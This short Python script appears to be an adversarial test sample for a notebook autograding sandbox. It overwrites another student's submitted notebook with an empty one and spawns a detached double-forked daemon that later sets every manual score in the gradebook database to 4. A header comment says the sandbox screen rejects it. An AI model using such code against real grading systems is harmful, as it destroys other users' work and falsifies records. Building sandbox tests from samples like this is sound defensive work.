# trudy, stage 1 Q2: overwrites ada's hand-in, then leaves a double-forked daemon that, once grading is over,
# sets her own manual score in the gradebook (and would survive into a re-run).  In the sandbox there is no
# hand-in or gradebook to reach and every process dies with the run; the screen refuses the file first: 0.
import os
import sqlite3
import time
from pathlib import Path

course = Path(os.getcwd()).resolve().parents[2]
try:
    (course / "submitted" / "ada" / "01_vector_add" / "01_vector_add.ipynb").write_text("{}")
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(60)
        db = sqlite3.connect(course / "gradebook.db")
        db.execute("UPDATE grade SET manual_score = 4")
        db.commit()
    os._exit(0)
